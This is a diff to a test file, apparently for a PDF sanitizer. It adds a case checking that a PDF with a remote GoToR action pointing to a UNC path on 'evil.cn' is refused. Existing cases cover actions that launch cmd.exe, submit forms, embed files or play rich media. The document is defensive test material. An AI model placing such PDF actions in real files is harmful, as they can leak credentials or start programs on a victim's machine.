@@ -46,6 +46,7 @@ describe('a PDF is refused when it can do something', () => {
     ['a program to start', '/S /Launch /F (cmd.exe)'],
     ['a form to send', '/S /SubmitForm'],
     ['a file inside', '/Type /EmbeddedFile'],
+    ['a file of a server to open', '/S /GoToR /F (\\\\\\\\evil.cn\\\\x) /D [0 /Fit]'],
     ['a film', '/Subtype /RichMedia'],
   ])('%s', (_, action) => {
     expect(code(pdf(`3 0 obj << ${action} >> endobj`))).toBe('pdf-active');
